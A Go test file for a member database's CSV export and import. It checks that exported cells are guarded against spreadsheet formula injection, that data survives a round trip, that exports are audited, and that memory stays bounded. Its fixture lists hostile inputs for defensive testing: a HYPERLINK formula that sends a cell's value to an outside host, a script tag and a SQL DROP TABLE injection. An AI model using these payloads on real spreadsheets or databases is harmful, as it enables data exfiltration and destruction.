package members

import (
	"encoding/csv"
	"errors"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"holdfast/internal/audit"
	"holdfast/internal/dbtest"
)

// hostileNames are names that are text and nothing else, wherever they come to stand.
func hostileNames() []string {
	return []string{
		`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1-1", "-2+3", "@SUM(A1)", "'=1", "''=1", "'t Hooft", "＝1",
		`<script>alert(1)</script>`, `{{.Address}}`, `a"b`, `a,b;c`, "O'Brien", `\`, "زهرا\u200cسادات", "'; DROP TABLE members; --",
	}
}

func exported(t testing.TB, s *Store) [][]string {
	t.Helper()
	var text strings.Builder
	n, err := s.Export(t.Context(), audit.System(), &text, ExportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(text.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != n+1 {
		t.Errorf("Export says %d and wrote %d", n, len(rows)-1)
	}
	return rows
}

// populate fills a database with every kind of member.
func populate(t testing.TB, s *Store) {
	t.Helper()
	group, err := s.AddGroup(t.Context(), audit.System(), "=Group, of \"Ottawa\"", "Ottawa")
	if err != nil {
		t.Fatal(err)
	}
	for i, name := range hostileNames() {
		consent := testConsent()
		consent.Source, consent.Words = name, "=two\nlines: "+name
		mustAdd(t, s, New{Address: "=m" + string(rune('a'+i)) + "@writers.example", Name: name, Language: "pt-BR", Country: "CA",
			GroupID: group.ID, Consent: consent})
	}
	left := mustAdd(t, s, New{Address: "left@writers.example"})
	suppressed := mustAdd(t, s, New{Address: "suppressed@writers.example"})
	erased := mustAdd(t, s, New{Address: "erased@writers.example"})
	if err := s.Leave(t.Context(), audit.Member(), left.ID, OneClick); err != nil {
		t.Fatal(err)
	}
	if err := s.Suppress(t.Context(), audit.System(), suppressed.Address, Returned); err != nil {
		t.Fatal(err)
	}
	erase(t, s.DB, erased.ID)
}

func TestP8_ExportHoldsNoFormula(t *testing.T) {
	t.Parallel()
	s := newStore(t, dbtest.Pool(t))
	populate(t, s)
	rows := exported(t, s)
	if want := len(hostileNames()) + 2; len(rows) != want+1 {
		t.Errorf("%d members exported, want %d", len(rows)-1, want)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
				t.Errorf("the cell %q is a formula to a spreadsheet", cell)
			}
		}
	}
}

func TestP8_ASecondImportGivesBackTheSame(t *testing.T) {
	t.Parallel()
	s := newStore(t, dbtest.Pool(t))
	populate(t, s)
	for name, bom := range map[string]bool{"without mark": false, "with mark": true} {
		var text strings.Builder
		if _, err := s.Export(t.Context(), audit.System(), &text, ExportOptions{BOM: bom}); err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(text.String(), byteOrderMark) != bom {
			t.Errorf("%s: begins with %q", name, text.String()[:4])
		}
		before := exported(t, s)

		// Into the database that it came from: nothing changes.
		report, err := s.Import(t.Context(), audit.System(), strings.NewReader(text.String()), ImportOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(Counts{Rows: len(before) - 1, Unchanged: len(before) - 3, KeptLeft: 1, KeptSuppressed: 1}, report.Counts); diff != "" {
			t.Errorf("%s, counts (-want +got):\n%s\n%v", name, diff, report.Errors)
		}
		if diff := cmp.Diff(before, exported(t, s)); diff != "" {
			t.Errorf("%s, exported again (-before +after):\n%s", name, diff)
		}

		// Into an empty one: the same members on the same evidence, the same people not mailed.
		fresh := newStore(t, dbtest.Pool(t))
		if _, err := fresh.AddGroup(t.Context(), audit.System(), "=Group, of \"Ottawa\"", "Ottawa"); err != nil {
			t.Fatal(err)
		}
		report, err = fresh.Import(t.Context(), audit.System(), strings.NewReader(text.String()), ImportOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(Counts{Rows: len(before) - 1, Added: len(before) - 3, Stopped: 2}, report.Counts); diff != "" {
			t.Errorf("%s, counts in an empty database (-want +got):\n%s\n%v", name, diff, report.Errors)
		}
		if diff := cmp.Diff(evidence(before), evidence(exported(t, fresh))); diff != "" {
			t.Errorf("%s, in an empty database (-before +after):\n%s", name, diff)
		}
	}
}

// evidence is the cells from address to consent of all who are subscribed.
func evidence(rows [][]string) (kept [][]string) {
	for _, row := range rows {
		if row[6] == string(Subscribed) {
			kept = append(kept, row[1:10])
		}
	}
	return kept
}

func TestExportIsOnRecordAlsoWhenTheReaderHangsUp(t *testing.T) {
	t.Parallel()
	tx := dbtest.Tx(t)
	s := newStore(t, tx)
	r, w := io.Pipe()
	r.CloseWithError(io.ErrClosedPipe)
	if _, err := s.Export(t.Context(), audit.System(), w, ExportOptions{BOM: true}); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("Export = %v, want the reader's error", err)
	}
	if n := countOf(t, tx, `SELECT count(*) FROM audit_events WHERE action = 'member.export'`); n != 1 {
		t.Errorf("%d audit rows, want 1", n)
	}
}

func TestExportOfManyRunsInBoundedMemory(t *testing.T) {
	s := newStore(t, dbtest.Pool(t))
	if _, err := s.Import(t.Context(), audit.System(), generated(30_000), testOptions(), nil); err != nil {
		t.Fatal(err)
	}
	var before, most uint64
	heap := func() uint64 {
		runtime.GC()
		var stats runtime.MemStats
		runtime.ReadMemStats(&stats)
		return stats.HeapAlloc
	}
	before = heap()
	writes := 0
	n, err := s.Export(t.Context(), audit.System(), writerFunc(func(p []byte) (int, error) {
		if writes++; writes%100 == 0 {
			most = max(most, heap())
		}
		return len(p), nil
	}), ExportOptions{})
	if err != nil || n != 30_000 {
		t.Fatalf("%d exported, %v", n, err)
	}
	if most > before+8<<20 {
		t.Errorf("the heap grew by %d MiB, want at most 8", (most-before)>>20)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

func FuzzGuardedCellComesBack(f *testing.F) {
	for _, name := range hostileNames() {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, text string) {
		guarded := GuardCell(text)
		if got := unguardCell(guarded); got != text {
			t.Errorf("%q became %q and came back as %q", text, guarded, got)
		}
		if guarded != "" && strings.ContainsRune(formulaStarts, []rune(guarded)[0]) {
			t.Errorf("%q is guarded as %q, which a spreadsheet runs", text, guarded)
		}
	})
}

func BenchmarkExport(b *testing.B) {
	const rows = 50_000
	s := newStore(b, dbtest.Pool(b))
	if _, err := s.Import(b.Context(), audit.System(), generated(rows), testOptions(), nil); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if n, err := s.Export(b.Context(), audit.System(), io.Discard, ExportOptions{}); err != nil || n != rows {
			b.Fatalf("%d exported, %v", n, err)
		}
	}
	b.ReportMetric(float64(rows)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}
